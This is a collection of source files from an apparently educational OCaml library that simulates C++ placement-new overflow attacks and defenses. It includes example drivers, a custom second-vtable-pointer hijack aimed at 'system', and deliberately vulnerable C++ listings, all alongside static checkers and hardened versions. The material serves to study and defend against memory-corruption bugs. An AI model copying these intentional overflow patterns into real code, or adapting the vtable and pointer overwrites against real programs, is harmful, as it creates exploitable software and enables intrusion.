        ignore (Driver.run_prepared ~max_steps:200_000 copy_i)));
    Test.make ~name:"interp/copy_loop_bytecode" (stage (fun () ->
        ignore (Driver.run_prepared ~max_steps:200_000 copy_b)));
    Test.make ~name:"interp/compile_unit" (stage (fun () ->
        ignore (Pna_minicpp.Compile.compile copy.Catalog.program)));
    Test.make ~name:"interp/compile_cached" (stage (fun () ->
        ignore (Pna_minicpp.Vm.load copy.Catalog.program)));
  ]

(* rows appended to a group's table after its Bechamel tests run *)
let extra_rows = [ ("net", net_loadgen_rows); ("gen", gen_campaign_rows) ]

(* ------------------------------------------------------------------ *)

let groups =
  [
    ("micro", micro_group);
    ("vmem", vmem_group);
    ("e1", e1_group);
    ("e2e3", e2_e3_group);
    ("e4", e4_group);
    ("e5", e5_group);
    ("e6", e6_group);
    ("e7", e7_group);
    ("e8", e8_group);
    ("e9", chaos_group);
    ("syntax", syntax_group);
    ("analysis", analysis_mode_group);
    ("serial", serial_group);
    ("e11", e11_group);
    ("ablation", ablation_group);
    ("service", service_group);
    ("telemetry", telemetry_group);
    ("sanitizer", sanitizer_group);
    ("net", net_group);
    ("gen", gen_group);
    ("interp", interp_group);
  ]

let selected_groups () =
  if Array.length Sys.argv <= 1 then groups
  else
    List.map
      (fun w ->
        match List.assoc_opt w groups with
        | Some g -> (w, g)
        | None ->
          Fmt.epr "unknown bench group %S (available: %s)@." w
            (String.concat ", " (List.map fst groups));
          exit 2)
      (String.split_on_char ',' Sys.argv.(1))

let benchmark test =
  let instances = Instance.[ monotonic_clock ] in
  let cfg = Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.25) ~kde:(Some 1000) () in
  Benchmark.all cfg instances test

let ols =
  Analyze.ols ~bootstrap:0 ~r_square:true ~predictors:Measure.[| run |]

(* (bench name, OLS ns/run estimate if it converged) *)
let measure test =
  let results = Analyze.all ols Instance.monotonic_clock (benchmark test) in
  Hashtbl.fold
    (fun name ols_result acc ->
      let est =
        match Analyze.OLS.estimates ols_result with
        | Some [ est ] -> Some est
        | _ -> None
      in
      (name, est) :: acc)
    results []

let json_escape s =
  let b = Buffer.create (String.length s) in
  String.iter
    (function
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | c -> Buffer.add_char b c)
    s;
  Buffer.contents b

(* machine-readable per-group results, for CI artifacts and cross-run
   comparison *)
let write_json group rows =
  let path = Fmt.str "BENCH_%s.json" group in
  let oc = open_out path in
  let ppf = Format.formatter_of_out_channel oc in
  Fmt.pf ppf "[@.";
  List.iteri
    (fun i (name, est) ->
      Fmt.pf ppf "  {\"name\": \"%s\", \"ns_per_run\": %s}%s@."
        (json_escape name)
        (match est with Some e -> Fmt.str "%.1f" e | None -> "null")
        (if i < List.length rows - 1 then "," else ""))
    rows;
  Fmt.pf ppf "]@.";
  Format.pp_print_flush ppf ();
  close_out oc;
  path

let () =
  let chosen = selected_groups () in
  let total = ref 0 in
  List.iter
    (fun (gname, tests) ->
      Fmt.pr "@.== %s ==@.%-40s %16s@.%s@." gname "benchmark" "time/run"
        (String.make 58 '-');
      let rows =
        List.concat_map measure tests
        @ (match List.assoc_opt gname extra_rows with
          | Some f -> f ()
          | None -> [])
      in
      List.iter
        (fun (name, est) ->
          Fmt.pr "%-40s %16s@." name
            (match est with
            | Some e -> Fmt.str "%12.1f ns" e
            | None -> "(no estimate)"))
        rows;
      let path = write_json gname rows in
      Fmt.pr "-> %s@." path;
      total := !total + List.length rows)
    chosen;
  Fmt.pr "@.bench: done (%d benchmarks in %d groups)@." !total
    (List.length chosen)
