(* Fuzzing vs the directed attacker vs static analysis.

   Haugh & Bishop's testing approach (paper ref [11]) finds overflows by
   feeding random inputs. Here we fuzz the Listing-13 server with random
   SSN triples and tally what dynamic testing actually observes — then
   compare with the directed attacker (who knows the layout) and the
   static checker (which sees the root cause without running anything).

     dune exec examples/fuzz_vs_static.exe
*)

module Config = Pna_defense.Config
module Interp = Pna_minicpp.Interp
module O = Pna_minicpp.Outcome
module D = Pna_attacks.Driver

let trials = 2_000
let program_ = Pna_attacks.L13_stack_ret.mk_program ~checked:false

type tally = {
  mutable clean : int;
  mutable crashed : int;
  mutable arc : int;
  mutable code : int;
  mutable other : int;
}

let () =
  let rng = Random.State.make [| 0x5eed |] in
  let t = { clean = 0; crashed = 0; arc = 0; code = 0; other = 0 } in
  for _ = 1 to trials do
    let rand31 () =
      (Random.State.bits rng lsl 1 lxor Random.State.bits rng) land 0x7fffffff
    in
    let ints = List.init 3 (fun _ -> rand31 ()) in
    let o = Interp.execute ~config:Config.none ~input_ints:ints program_ in
    match o.O.status with
    | O.Exited _ -> t.clean <- t.clean + 1
    | O.Crashed _ -> t.crashed <- t.crashed + 1
    | O.Arc_injection _ -> t.arc <- t.arc + 1
    | O.Code_injection _ -> t.code <- t.code + 1
    | _ -> t.other <- t.other + 1
  done;
  Fmt.pr "fuzzing Listing 13 with %d random SSN triples:@." trials;
  Fmt.pr "  ran to completion : %5d  (overflow happened, nobody noticed)@." t.clean;
  Fmt.pr "  crashed           : %5d  (what a fuzzer's triage sees)@." t.crashed;
  Fmt.pr "  arc injection     : %5d  (a working exploit, by pure luck)@." t.arc;
  Fmt.pr "  code injection    : %5d@." t.code;
  Fmt.pr "  other             : %5d@.@." t.other;

  let r = D.run Pna_attacks.L13_stack_ret.attack in
  Fmt.pr "the directed attacker (1 attempt): %a@."
    O.pp_status r.D.outcome.Pna_minicpp.Outcome.status;

  let findings = Pna_analysis.Placement_checker.actionable program_ in
  Fmt.pr "@.the static checker (0 executions): %d actionable finding(s)@."
    (List.length findings);
  List.iter (fun f -> Fmt.pr "  %a@." Pna_analysis.Finding.pp f) findings;
  Fmt.pr
    "@.moral: random testing surfaces crashes, not exploitability; the \
     attacker@.needs one attempt; the checker needs none. (§5.1: correct \
     coding / static@.detection is the right layer for this class.)@."
