examples/attack_gallery.ml: Fmt List Pna_attacks Pna_minicpp
