examples/defense_lab.mli:
