examples/fuzz_vs_static.ml: Fmt List Pna_analysis Pna_attacks Pna_defense Pna_minicpp Random
