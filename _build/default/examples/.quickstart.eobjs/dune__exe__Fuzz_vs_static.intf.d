examples/fuzz_vs_static.mli:
