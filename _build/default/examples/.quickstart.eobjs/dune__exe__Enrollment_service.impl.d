examples/enrollment_service.ml: Fmt List Pna_analysis Pna_defense Pna_machine Pna_minicpp Pna_serial Pna_vmem
