examples/quickstart.mli:
