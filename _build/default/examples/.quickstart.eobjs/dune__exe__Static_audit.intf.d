examples/static_audit.mli:
