examples/enrollment_service.mli:
