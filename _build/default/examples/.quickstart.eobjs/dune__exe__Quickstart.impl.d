examples/quickstart.ml: Fmt List Pna_defense Pna_layout Pna_machine Pna_minicpp Pna_vmem
