examples/custom_attack.mli:
