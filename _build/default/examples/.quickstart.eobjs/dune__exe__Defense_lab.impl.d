examples/defense_lab.ml: Fmt List Pna_attacks Pna_defense Pna_minicpp
