examples/custom_attack.ml: Fmt List Pna_defense Pna_layout Pna_machine Pna_minicpp
