examples/static_audit.ml: Fmt List Pna_analysis Pna_attacks
