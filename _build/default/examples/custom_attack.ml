(* Authoring a NEW attack with the library — one the paper only hints at:
   under multiple inheritance an object carries several vtable pointers
   (§3.8.2: "In case of multiple inheritance, there are more than one
   vtable pointers in a given instance"). We corrupt the SECOND one, which
   a defense that only guards offset 0 would miss.

     dune exec examples/custom_attack.exe
*)

open Pna_minicpp.Dsl
module Class_def = Pna_layout.Class_def
module Layout = Pna_layout.Layout
module Interp = Pna_minicpp.Interp
module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module O = Pna_minicpp.Outcome

(* class Reader  { virtual int read();  };
   class Writer  { virtual int write(); };
   class File : Reader, Writer { int fd; };       // two vptrs: @0 and @4
   class LogFile : File { int log[4]; };          // 16 extra bytes *)
let classes =
  [
    Class_def.v "Reader" ~methods:[ Class_def.virtual_method ~impl:"Reader::read" "read" ] [];
    Class_def.v "Writer" ~methods:[ Class_def.virtual_method ~impl:"Writer::write" "write" ] [];
    Class_def.v "File" ~bases:[ "Reader"; "Writer" ] [ ("fd", int) ];
    Class_def.v "LogFile" ~bases:[ "File" ] [ ("log", int_arr 4) ];
  ]

let vmeth name = func name ~params:[ ("this", ptr void) ] ~ret:int [ ret (i 1) ]

let program_ =
  program ~classes
    ~globals:[ global "f1" (cls "File"); global "f2" (cls "File") ]
    [
      vmeth "Reader::read";
      vmeth "Writer::write";
      func "File::ctor" ~params:[ ("this", ptr (cls "File")) ]
        [ set (arrow (v "this") "fd") (i 3) ];
      func "LogFile::ctor" ~params:[ ("this", ptr (cls "LogFile")) ] [];
      func "main"
        [
          expr (pnew (addr (v "f2")) (cls "File") []);
          (* overflow: LogFile over f1 reaches into f2 *)
          decli "lf" (ptr (cls "LogFile")) (pnew (addr (v "f1")) (cls "LogFile") []);
          set (idx (arrow (v "lf") "log") (i 0)) cin;
          set (idx (arrow (v "lf") "log") (i 1)) cin;
          set (idx (arrow (v "lf") "log") (i 2)) cin;
          (* the victim then writes through its Writer interface: the call
             dispatches through f2's SECOND vtable pointer *)
          decli "n" int (mcall (v "f2") "write" []);
          ret (v "n");
        ];
    ]

let () =
  (* inspect the layout first: File has vptrs at 0 and 4 *)
  let env = Interp.build_env program_ in
  Fmt.pr "%a@.@." Layout.pp (Layout.of_class env "File");
  Fmt.pr "%a@.@." Layout.pp (Layout.of_class env "LogFile");

  let m = Interp.load ~config:Config.none program_ in
  let f1 = Machine.global_addr_exn m "f1"
  and f2 = Machine.global_addr_exn m "f2" in
  let file_size = Layout.sizeof (Machine.env m) (Pna_layout.Ctype.Class "File") in
  Fmt.pr "f1 at 0x%08x, f2 at 0x%08x (File is %d bytes)@." f1 f2 file_size;

  (* LogFile's log[] starts at offset sizeof(File); log[k] aliases
     f2 + 4k. log[0] -> f2's Reader vptr, log[1] -> f2's Writer vptr. *)
  let fake_vtable = f1 + file_size + 8 (* = &log[2], attacker-controlled *) in
  let system_addr = Machine.function_addr m "system" in
  Machine.set_input ~ints:[ 0x51515151; fake_vtable; system_addr ] ~strings:[] m;
  Fmt.pr
    "attacker: log[1] := 0x%08x (fake vtable over f2's Writer vptr), \
     log[2] := &system@."
    fake_vtable;

  let o = Interp.run m program_ ~entry:"main" in
  Fmt.pr "@.outcome: %a@." O.pp_status o.O.status;
  List.iter (fun e -> Fmt.pr "  %s@." (Pna_machine.Event.to_string e)) o.O.events;
  match o.O.status with
  | O.Arc_injection { via = O.Vtable; symbol = "system"; _ } ->
    Fmt.pr "@.second-vptr subterfuge confirmed: the Writer-interface call \
            ran the attacker's target.@."
  | _ -> Fmt.pr "@.(unexpected outcome)@."
