(* Quickstart: write a C++ program with the DSL, run it on the simulated
   machine, and watch a placement-new overflow corrupt a neighbour.

     dune exec examples/quickstart.exe
*)

open Pna_minicpp.Dsl
module Interp = Pna_minicpp.Interp
module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module Vmem = Pna_vmem.Vmem

(* class Small { int a; int b; };
   class Big : Small { int extra[2]; }; *)
let small = Pna_layout.Class_def.v "Small" [ ("a", int); ("b", int) ]
let big = Pna_layout.Class_def.v "Big" ~bases:[ "Small" ] [ ("extra", int_arr 2) ]

(* Small s; int secret = 1234;   // adjacent globals
   int main() {
     Big *p = new (&s) Big();    // 16 bytes into an 8-byte arena!
     p->extra[0] = cin;          // writes *past* s — onto secret
   } *)
let program_ =
  program
    ~classes:[ small; big ]
    ~globals:[ global "s" (cls "Small"); global "secret" int ]
    [
      func "main"
        [
          decli "p" (ptr (cls "Big")) (pnew (addr (v "s")) (cls "Big") []);
          set (idx (arrow (v "p") "extra") (i 0)) cin;
          ret (i 0);
        ];
    ]

let () =
  (* load the program into a fresh 32-bit process image *)
  let m = Interp.load ~config:Config.none program_ in
  Machine.set_input ~ints:[ 0x41414141 ] ~strings:[] m;

  let secret_addr = Machine.global_addr_exn m "secret" in
  Fmt.pr "before: secret = %d@." (Vmem.read_i32 (Machine.mem m) secret_addr);

  let outcome = Interp.run m program_ ~entry:"main" in
  Fmt.pr "run:    %a@." Pna_minicpp.Outcome.pp_status outcome.Pna_minicpp.Outcome.status;

  let secret = Vmem.read_u32 (Machine.mem m) secret_addr in
  Fmt.pr "after:  secret = 0x%08x (attacker-tainted: %b)@." secret
    (Vmem.range_tainted (Machine.mem m) secret_addr 4);

  Fmt.pr "@.events:@.";
  List.iter
    (fun e -> Fmt.pr "  %s@." (Pna_machine.Event.to_string e))
    outcome.Pna_minicpp.Outcome.events;

  (* the same program under the bounds-checked placement defense *)
  Fmt.pr "@.same program under the bounds-check defense:@.";
  let o2 =
    Interp.execute ~config:Config.bounds_check ~input_ints:[ 0x41414141 ] program_
  in
  Fmt.pr "  %a@." Pna_minicpp.Outcome.pp_status o2.Pna_minicpp.Outcome.status
