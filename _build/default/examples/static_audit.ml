(* Static audit: run the placement-new checker (the paper's §7 future-work
   tool) and the legacy string-op baseline over a vulnerable server and its
   hardened twin — the way a CI security gate would.

     dune exec examples/static_audit.exe
*)

module Audit = Pna_analysis.Audit
module F = Pna_analysis.Finding
module C = Pna_attacks.Catalog

let show title prog =
  let r = Audit.analyze prog in
  Fmt.pr "--- %s ---@." title;
  let actionable = Audit.actionable r.Audit.placement in
  if actionable = [] then Fmt.pr "placement checker: clean@."
  else begin
    Fmt.pr "placement checker: %d actionable finding(s)@."
      (List.length actionable);
    List.iter (fun f -> Fmt.pr "  %a@." F.pp f) actionable
  end;
  let audit_trail =
    List.filter (fun f -> not (F.actionable f)) r.Audit.placement
  in
  Fmt.pr "audit trail (informational): %d placement site(s)@."
    (List.length audit_trail);
  (match Audit.actionable r.Audit.legacy with
  | [] -> Fmt.pr "legacy string-op checker: nothing to report@."
  | fs ->
    Fmt.pr "legacy checker: %d finding(s)@." (List.length fs);
    List.iter (fun f -> Fmt.pr "  %a@." F.pp f) fs);
  Fmt.pr "@."

let () =
  Fmt.pr "Static audit of the two-step array attack (Listing 19):@.@.";
  let a = Pna_attacks.L19_array_stack.attack in
  show "vulnerable sortAndAddUname" a.C.program;
  (match a.C.hardened with
  | Some h -> show "hardened sortAndAddUname (§5.1 correct coding)" h
  | None -> ());

  Fmt.pr "Audit of the information-leak server (Listing 21):@.@.";
  let l = Pna_attacks.L21_leak_array.attack in
  show "vulnerable pool reuse" l.C.program;
  (match l.C.hardened with
  | Some h -> show "sanitized pool reuse" h
  | None -> ());

  (* summary over the whole catalogue *)
  let flagged, silent =
    List.partition
      (fun (a : C.t) ->
        Audit.flags (Audit.relevant_kinds a.C.id)
          (Audit.analyze a.C.program).Audit.placement)
      Pna_attacks.All.attacks
  in
  Fmt.pr "catalogue sweep: %d/%d programs flagged by the placement checker; \
          the legacy baseline flags the placement defect in none of them.@."
    (List.length flagged)
    (List.length flagged + List.length silent)
