(* The §3.2 story end-to-end: a student-enrollment "web service" receives
   serialized objects from remote peers and re-materializes them into a
   per-request memory pool with placement new. A well-behaved client, a
   malicious client, and the hardened (§5.1) service.

     dune exec examples/enrollment_service.exe
*)

open Pna_minicpp.Dsl
module Wire = Pna_serial.Wire
module Victim = Pna_serial.Victim
module Interp = Pna_minicpp.Interp
module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module Vmem = Pna_vmem.Vmem
module O = Pna_minicpp.Outcome

(* the service: pool + the business state an attacker would love to own *)
let service ~checked =
  program ~classes:Victim.classes
    ~globals:
      ([ Victim.pool_global; global "quota" int; global "next_uid" int ]
      @ Victim.state_globals)
    [
      Victim.deserialize_func ~checked;
      func "main"
        [
          decl "dgram" (char_arr 128);
          (* serve datagrams until the socket runs dry *)
          decli "len" int (call "recv" [ v "dgram"; i 128 ]);
          while_
            (v "len" >: i 0)
            [
              expr (call "deserialize" [ v "dgram" ]);
              set (v "len") (call "recv" [ v "dgram"; i 128 ]);
            ];
          ret (i 0);
        ];
    ]

let show_state label m =
  let g n = Vmem.read_i32 (Machine.mem m) (Machine.global_addr_exn m n) in
  Fmt.pr "  %-22s quota=%-10d next_uid=%-10d served=%d rejected=%d@." label
    (g "quota") (g "next_uid") (g "served") (g "rejected")

let run ~checked payloads =
  let prog = service ~checked in
  let m = Interp.load ~config:Config.none prog in
  Machine.set_input ~strings:payloads m;
  let o = Interp.run m prog ~entry:"main" in
  (o, m)

let () =
  Fmt.pr "=== enrollment service (vulnerable) ===@.";
  (* quota/next_uid sit in bss directly after the 16-byte pool: exactly
     where a placed NetGradStudent's ssn[] lands *)
  Fmt.pr "wire format: class id + fields; the pool is sized for a NetStudent.@.@.";

  (* 1. honest clients *)
  let honest =
    [
      Wire.encode (Wire.student ~gpa:3.4 ~year:2010 ~semester:1 ());
      Wire.encode (Wire.student ~gpa:2.9 ~year:2011 ~semester:2 ());
    ]
  in
  let o, m = run ~checked:false honest in
  Fmt.pr "two honest requests -> %a@." O.pp_status o.O.status;
  show_state "after honest traffic:" m;

  (* 2. the attacker sends a NetGradStudent whose SSN words alias the
        service's quota and uid counters *)
  Fmt.pr "@.malicious datagram: class id 2, ssn = [999999; 31337; 0]@.";
  let evil =
    Wire.encode (Wire.grad_student ~ssn:[| 999999; 31337; 0 |] ())
  in
  let o, m = run ~checked:false (honest @ [ evil ]) in
  Fmt.pr "with the attacker in the mix -> %a@." O.pp_status o.O.status;
  show_state "after the attack:" m;
  Fmt.pr "  (quota and next_uid are attacker-tainted: %b)@."
    (Vmem.range_tainted (Machine.mem m) (Machine.global_addr_exn m "quota") 8);

  (* 3. static audit would have caught the service before deployment *)
  let findings = Pna_analysis.Placement_checker.actionable (service ~checked:false) in
  Fmt.pr "@.static audit of the vulnerable service: %d actionable finding(s)@."
    (List.length findings);
  List.iter (fun f -> Fmt.pr "  %a@." Pna_analysis.Finding.pp f) findings;

  (* 4. the §5.1 fix *)
  Fmt.pr "@.=== hardened service (size check + count clamp) ===@.";
  let o, m = run ~checked:true (honest @ [ evil ]) in
  Fmt.pr "same traffic -> %a@." O.pp_status o.O.status;
  show_state "after the same traffic:" m;
  let clean = Pna_analysis.Placement_checker.actionable (service ~checked:true) in
  Fmt.pr "static audit of the hardened service: %d actionable finding(s)@."
    (List.length clean);
  List.iter (fun f -> Fmt.pr "  %a@." Pna_analysis.Finding.pp f) clean;
  Fmt.pr
    "  (the remaining Medium finding is the §2.5 alignment hazard of placing\n\
    \   an 8-aligned object into a char pool — real, but not the overflow)@."
