(* Defense lab: take the paper's flagship stack-smash (Listing 13) and the
   §5.2 canary bypass, and watch each protection mechanism succeed or fail
   against them.

     dune exec examples/defense_lab.exe
*)

module C = Pna_attacks.Catalog
module D = Pna_attacks.Driver
module Config = Pna_defense.Config
module O = Pna_minicpp.Outcome

let explain (config : Config.t) =
  match config.Config.name with
  | "none" -> "no protection (gcc pre-4.x defaults)"
  | "stackguard" -> "StackGuard canary between locals and control data"
  | "shadow-stack" -> "return addresses mirrored outside the address space"
  | "bounds-check" -> "libsafe-style interposition on placement new"
  | "sanitize" -> "arena wiped before every placement (anti-leak)"
  | "nx-stack" -> "writable segments are not executable"
  | "full" -> "all of the above"
  | other -> other

let show attack =
  Fmt.pr "### %s — %s@." attack.C.id attack.C.name;
  List.iter
    (fun config ->
      let r = D.run ~config attack in
      Fmt.pr "  %-14s %-46s -> %s@." config.Config.name (explain config)
        (if r.D.verdict.C.success then
           Fmt.str "ATTACKER WINS (%a)" O.pp_status r.D.outcome.O.status
         else Fmt.str "stopped (%a)" O.pp_status r.D.outcome.O.status))
    Config.all;
  Fmt.pr "@."

let () =
  Fmt.pr "Defense lab: who stops what?@.@.";
  show Pna_attacks.L13_stack_ret.attack;
  show Pna_attacks.L13_stack_ret.bypass;
  show Pna_attacks.L13_stack_ret.inject;
  show Pna_attacks.L21_leak_array.attack;
  Fmt.pr
    "Take-aways (all from the paper's §5):@.\
    \  - the canary catches the naive smash but not the selective overwrite;@.\
    \  - NX stops injected code yet is blind to return-to-libc;@.\
    \  - only bounds-checked placement addresses the root cause;@.\
    \  - leaks need sanitization, which no control-flow defense provides.@."
