// Listing 15 — Overwriting Local Variables on Stack (§3.7.2, §4.4).
// ssn[0] lands in Student's alignment padding; ssn[1] lands exactly on n.

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

int isGradStudent;
int counter;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void addStudent() {
  int n = 5;
  Student stud;
  if (isGradStudent) {
    GradStudent *gs = new (&stud) GradStudent();
    cin >> gs->ssn[1]; // overwrites n
  }
  for (int i = 0; i < n; i = i + 1) {
    counter = counter + 1;
  }
}

void main() {
  isGradStudent = 1;
  addStudent();
  return 0;
}
