// Listing 12 — Heap Overflow (§3.5.1).
// Transcription note: the paper places at an uninitialized pointer; we
// first allocate the Student (the authors' evident intent).

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

Student *stud;
char *name;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void main() {
  stud = new Student();
  GradStudent *st = new (stud) GradStudent();
  name = new char[16];
  strncpy(name, "abcdefghijklmno", 16);
  cout << "Before Attack: Name:" << name;
  cin >> st->ssn[0];
  cin >> st->ssn[1];
  cin >> st->ssn[2];
  cout << "After Attack: Name:" << name;
  return 0;
}
