// Listing 22 — Information Leakage via Objects (§4.3).
// A Student is placed over a GradStudent's arena; the SSN words survive
// in the tail and are serialized out.

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int setSSN();
  int ssn[3];
};

GradStudent *gst;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void GradStudent::setSSN(GradStudent *this, int s0, int s1, int s2) {
  this->ssn[0] = s0;
  this->ssn[1] = s1;
  this->ssn[2] = s2;
}

void main() {
  gst = new GradStudent(); // contains SSN
  gst->setSSN(123456789, 987654321, 55555);
  Student *st = new (gst) Student(); // does not clean SSN
  store(st, sizeof(GradStudent));
  return 0;
}
