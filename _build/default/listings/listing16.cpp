// Listing 16 — Overwriting Member Variables of Objects (§3.8.1).
// `first` is declared before `stud`, so it sits above it in the frame:
// the placed GradStudent's ssn[0]/ssn[1] alias first.gpa.

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

int isGradStudent;
double observed_gpa;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void Student::Student(Student *this, double sgpa, int yr, int sem) {
  this->gpa = sgpa;
  this->year = yr;
  this->semester = sem;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void addStudent() {
  Student first = Student(3.9, 2008, 2);
  Student stud;
  if (isGradStudent) {
    GradStudent *gs = new (&stud) GradStudent();
    cin >> gs->ssn[0]; // overwrites first.gpa (low word)
    cin >> gs->ssn[1]; // overwrites first.gpa (high word)
  }
  observed_gpa = first.gpa;
}

void main() {
  isGradStudent = 1;
  addStudent();
  return 0;
}
