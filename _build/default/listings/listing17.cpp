// Listing 17 — Function Pointer Subterfuge (§3.9).
// The NULL function pointer sits above `stud` in the frame; ssn[1]
// aliases it, and the guarded call site becomes reachable.

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

int isGradStudent;
int admin;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void grant_admin() {
  admin = 1;
}

void addStudent() {
  void (*createStudentAccount)() = NULL;
  Student stud;
  if (isGradStudent) {
    GradStudent *gs = new (&stud) GradStudent();
    cin >> gs->ssn[1]; // overwrites the function pointer
  }
  if (createStudentAccount != NULL) {
    (*createStudentAccount)();
  }
}

void main() {
  isGradStudent = 1;
  addStudent();
  return 0;
}
