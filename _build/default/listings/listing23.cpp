// Listing 23 — Memory Leaks (§4.5).
// Each iteration releases only sizeof(Student) of a GradStudent-sized
// block; `delete[Student]` is this dialect's spelling of the paper's
// "free memory of st" (C++ has no placement delete).

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

GradStudent *stud;
Student *st;
int n_students;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void addStudent() {
  for (int i = 0; i < n_students; i = i + 1) {
    stud = new GradStudent();
    st = new (stud) Student();
    delete[Student] st; // frees only sizeof(Student): the tail leaks
    stud = NULL;
  }
}

void main() {
  cin >> n_students;
  addStudent();
  return 0;
}
