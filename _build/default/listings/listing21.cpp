// Listing 21 — Information leakage via Arrays (§4.3).
// The password file is modelled by the pool's initializer; the user's
// short string leaves the rest of the file readable, and store() ships
// the whole buffer out.

char mem_pool[64] = "root:x:0:0:SECRET-TOKEN-1337:/root:/bin/bash\n";
char *userdata;

void main() {
  // MAX_USERDATA (32) <= SIZE (64)
  userdata = new (mem_pool) char[32];
  strncpy(userdata, cin_str(), 8);
  store(userdata, 64);
  return 0;
}
