// Listing 20 — BSS Overflow involving Arrays (§4.2).
// Same two-step pattern as Listing 19, but the pool is a global: the
// corrupted bound lets strncpy run across the adjacent globals.

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

char mem_pool[64];
int n_staff;
int payroll_budget;
int n_students = 8;
int isGrad;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void sortAndAddUname(char *uname) {
  int n_unames = 0;
  Student stud;
  cin >> n_unames;
  if (n_unames > n_students) {
    return;
  }
  if (isGrad) {
    GradStudent *st = new (&stud) GradStudent();
    cin >> st->ssn[0]; // aliases n_unames
  }
  char *buf = new (mem_pool) char[n_unames * 8];
  strncpy(buf, uname, n_unames * 8);
}

void main() {
  isGrad = 1;
  sortAndAddUname(cin_str());
  return 0;
}
