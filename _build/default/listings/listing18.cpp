// Listing 18 — Variable Pointer Subterfuge (§3.10).
// The global `name` pointer sits right after `stud`; ssn[0] repoints it
// and the program's own strcpy then writes through the hijacked pointer.

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

Student stud;
char *name;
int authenticated;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void main() {
  name = new char[16];
  GradStudent *st = new (&stud) GradStudent();
  cin >> st->ssn[0]; // overwrites the pointer variable `name`
  strcpy(name, cin_str()); // writes wherever the attacker pointed it
  return 0;
}
