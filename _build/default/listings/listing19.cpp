// Listing 19 — Stack Overflow involving Arrays (§4.1), the two-step attack.
// Step 1: the object overflow rewrites n_unames after the bounds check.
// Step 2: strncpy with the corrupted bound smashes the saved registers.
// Transcription notes: mem_pool is char[64] (n_students * (UNAME_SIZE+1)
// with n_students = 8, UNAME_SIZE = 7).

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

int n_students = 8;
int isGrad;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

void GradStudent::GradStudent(GradStudent *this) {
}

void sortAndAddUname(char *uname) {
  char mem_pool[64];
  int n_unames = 0;
  Student stud;
  cin >> n_unames;
  if (n_unames > n_students) {
    return;
  }
  if (isGrad) {
    GradStudent *st = new (&stud) GradStudent();
    // read st->ssn[] from std input; ssn[0] aliases n_unames
    cin >> st->ssn[0];
  }
  char *buf = new (mem_pool) char[n_unames * 8];
  strncpy(buf, uname, n_unames * 8);
}

void main() {
  isGrad = 1;
  sortAndAddUname(cin_str());
  return 0;
}
