// Listing 11 — Data/bss Overflow (§3.5).
// stud1 and stud2 are adjacent bss globals; placing a GradStudent at
// &stud1 makes ssn[] alias stud2's gpa and year.

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int setSSN();
  int ssn[3];
};

Student stud1;
Student stud2;
int isGradStudent;

void Student::Student(Student *this, double sgpa, int yr, int sem) {
  this->gpa = sgpa;
  this->year = yr;
  this->semester = sem;
}

void GradStudent::GradStudent(GradStudent *this, double sgpa, int yr, int sem) {
  this->gpa = sgpa;
  this->year = yr;
  this->semester = sem;
}

void GradStudent::setSSN(GradStudent *this, int s0, int s1, int s2) {
  this->ssn[0] = s0;
  this->ssn[1] = s1;
  this->ssn[2] = s2;
}

void addStudent() {
  if (isGradStudent) {
    // user input: ssn[0], ssn[1], ssn[2]; place st at &stud1
    GradStudent *st = new (&stud1) GradStudent(4.0, 2009, 1);
    int a;
    cin >> a;
    int b;
    cin >> b;
    int c;
    cin >> c;
    st->setSSN(a, b, c);
  } else {
    // user input: gpa, year, semester; place st at &stud2
    int g;
    cin >> g;
    int y;
    cin >> y;
    int s;
    cin >> s;
    Student *st2 = new (&stud2) Student(g, y, s);
  }
}

void main() {
  isGradStudent = 0;
  addStudent();
  isGradStudent = 1;
  addStudent(); // attack: overwrites gpa/year of stud2
  return 0;
}
