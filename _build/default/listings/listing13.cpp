// Listing 13 — Modification of Return Address (§3.6.1).
// Transcription notes: the bool parameter is a global so the frame holds
// only `stud` (keeps the paper's ssn[i] -> slot arithmetic exact).

class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

int isGradStudent;

void Student::Student(Student *this) {
  this->gpa = 0.0;
  this->year = 0;
  this->semester = 0;
}

